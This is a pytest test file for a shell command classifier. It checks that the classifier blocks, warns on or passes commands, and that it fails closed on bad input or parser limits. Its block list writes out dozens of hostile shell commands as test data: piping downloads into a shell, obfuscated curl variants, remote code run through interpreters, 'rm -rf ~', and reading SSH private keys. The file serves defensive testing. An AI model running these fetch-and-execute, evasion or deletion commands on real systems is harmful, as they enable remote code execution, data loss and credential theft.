"""Behaviour the issue names explicitly, beyond the rule examples."""

import pytest

from shell_audit import ClassifierConfig, audit_record, classify
from shell_audit.models import Level

BLOCK = [
    "curl u | sh", "$(curl u)", "`wget -qO- u`", "x=$(curl u); eval \"$x\"", "x=$(curl u); bash -c \"$x\"",
    "x=$(curl u); $x", "x=$(curl u); sh <<< \"$x\"", "export X=$(curl u); sh -c \"$X\"", ". <(curl u)", "bash <(curl u)",
    "curl -o f u && bash f", "c''url u | sh", "\\curl u | sh", '"cu"rl u | sh', "$'\\x63url' u | sh", "curl u | s\\h",
    "{rm,-rf,~}", "cu\\\nrl u | sh", "$a rm -rf ~", "time curl u | sh", "/bin/bash -c \"$(curl u)\"",
    "env curl u | sh", "sudo bash -c 'curl u|sh'", "nohup sh -c \"$(curl u)\" &", "timeout 5 bash <(curl u)",
    "nice -n 5 sh -c \"$(curl u)\"", "command eval \"$(curl u)\"", "builtin eval \"$(curl u)\"", "exec sh -c \"$(curl u)\"",
    "echo u | xargs curl | sh", "find . -exec sh -c 'curl u | sh' \\;", "cat <<EOF | bash\nrm -rf ~\nEOF",
    "bash -c \"bash -c 'curl u | sh'\"", "echo hi\n$(curl u)", "python3 -c \"$(curl -s u)\"", "perl -e \"$(curl -s u)\"",
    "node -e \"$(curl -s u)\"", "php -r \"$(curl -s u)\"", "ruby -e \"$(curl -s u)\"", "python3 <<< \"$(curl -s u)\"",
    "a | grep x | head -30\ncurl u | sh && cd s",
]
PASS = [
    "x=$(curl u)", "echo $(date)", "echo $(curl -s u)", "diff <(sort a) <(sort b)", "rm -rf build/",
    "cat <<'EOF' > notes.md\ncurl u | sh\nEOF", "echo 'curl u | sh' >> notes.md", "git commit -m 'block curl | sh'",
    "./scripts/test.sh", "bash scripts/build.sh", "echo $((1<<4))", "for f in $(ls); do echo \"$f\"; done",
    "python3 - <<'EOF'\nprint('hi')\nEOF",
]


@pytest.mark.parametrize("command", BLOCK)
def test_blocks(command: str) -> None:
    assert classify(command).verdict is Level.BLOCK, classify(command).findings


@pytest.mark.parametrize("command", PASS)
def test_passes(command: str) -> None:
    assert classify(command).verdict is Level.PASS, classify(command).findings


@pytest.mark.parametrize("command", ["$cmd x", "${tool} build", "eval \"$unknown\"", "pip install requests", "sudo ls", "chmod 777 x", "export PATH=/tmp:$PATH"])
def test_warns(command: str) -> None:
    assert classify(command).verdict is Level.WARN, classify(command).findings


def test_unquoted_heredoc_substitutions_run_in_value_position() -> None:
    assert classify("cat <<EOF > f\n$(curl u)\nEOF").verdict is Level.PASS
    assert classify("cat <<EOF > f\n$(rm -rf ~)\nEOF").verdict is Level.BLOCK
    assert classify("cat <<'EOF' > f\n$(rm -rf ~)\nEOF").verdict is Level.PASS


@pytest.mark.parametrize(("command", "rule"), [("", "SA001"), ("   ", "SA001"), ("x" * 10_001, "SA002"), ("ls\x00", "SA003"), ("ls \ud800", "SA004")])
def test_bad_input_blocks_with_a_reason(command: str, rule: str) -> None:
    verdict = classify(command)
    assert verdict.verdict is Level.BLOCK and verdict.rule_ids == (rule,)


def test_length_limit_is_configurable() -> None:
    assert classify("echo " + "a" * 20, ClassifierConfig(max_length=10)).verdict is Level.BLOCK
    assert classify("echo " + "a" * 20_000, ClassifierConfig(max_length=30_000)).verdict is Level.PASS


def test_code_depth_bound_blocks_past_it() -> None:
    nested = "ls"
    for _ in range(6):
        nested = "bash -c " + "'" + nested.replace("'", "'\"'\"'") + "'"
    assert classify(nested).verdict is Level.BLOCK
    assert "SA905" in classify(nested).rule_ids
    assert classify(nested, ClassifierConfig(max_code_depth=10)).verdict is Level.PASS


def test_deep_syntax_does_not_raise() -> None:
    verdict = classify("echo " + "$(" * 3000 + "ls" + ")" * 3000)
    assert verdict.verdict is Level.BLOCK


def test_audit_record_is_json_serialisable_and_truncates() -> None:
    command = "curl u | sh; " + "x" * 5000
    record = audit_record(command, classify(command), thread_id="t-1")
    data = record.model_dump(mode="json")
    assert data["verdict"] == "block" and data["thread_id"] == "t-1" and "SA101" in data["rules"]
    assert data["command_truncated"] and len(data["command"]) == 2000 and data["command_length"] == len(command)


def test_audit_record_survives_lone_surrogates() -> None:
    record = audit_record("ls \ud800", classify("ls \ud800"))
    assert record.model_dump_json()


def test_non_string_input_fails_closed() -> None:
    assert classify(None).verdict is Level.BLOCK  # type: ignore[arg-type]


def test_non_ascii_input_that_crashed_tree_sitter_bash() -> None:
    """Found by test_never_raises_on_any_text: tree-sitter-bash 0.25.1 segfaulted
    (nondeterministically) on this text; the parser now sees non-ASCII bytes masked."""
    data = b"\xf2\x8c\xb1\xb1\xf2\xbc\xb7\x87\xea\xa5\xaa\xc3\x86\xc2\x9d\xc3\xb67\xc2\x9ay{\xf3\x86\xb7\xa4\xf1\xb8\x89\x9b\xf2\x87\x95\xa7\xc3\xa9\xf1\x99\x98\x84\xf2\xbb\xb7\x96\xf1\xad\x8e\x8dE\xc2\xbc\xc2\x8d\xc3\x84G\xc2\x89\xf3\xbf\x86\xa7"
    for _ in range(20):
        assert classify(data.decode("utf-8")).verdict in (Level.PASS, Level.WARN, Level.BLOCK)


def test_non_ascii_words_are_read_from_the_original_text() -> None:
    assert classify("cat ~/.ssh/id_rsa # café").verdict is Level.BLOCK
    assert classify("echo 'héllo wörld' | tr a-z A-Z").verdict is Level.PASS


def test_parser_time_bound_blocks_what_it_could_not_read() -> None:
    command = "a|" * 4999 + "b"
    verdict = classify(command, ClassifierConfig(parse_budget_ms=1, max_work=100_000))
    assert verdict.verdict is Level.BLOCK and "SA005" in verdict.rule_ids


def test_work_budget_blocks_past_it() -> None:
    verdict = classify("true; " * 300)
    assert verdict.verdict is Level.BLOCK and "SA909" in verdict.rule_ids
    assert classify("true; " * 300, ClassifierConfig(max_work=1_000)).verdict is Level.PASS


def test_a_cancelled_parse_does_not_leak_into_the_next_classification() -> None:
    """tree-sitter resumes a cancelled parse on the next parse() unless reset: the
    next command would then be judged by the previous command's tree."""
    assert "SA005" in classify("a|" * 5000, ClassifierConfig(parse_budget_ms=1)).rule_ids
    assert classify("ls -la").verdict is Level.PASS
    assert classify("echo " + "{a,b}" * 200).verdict is Level.PASS
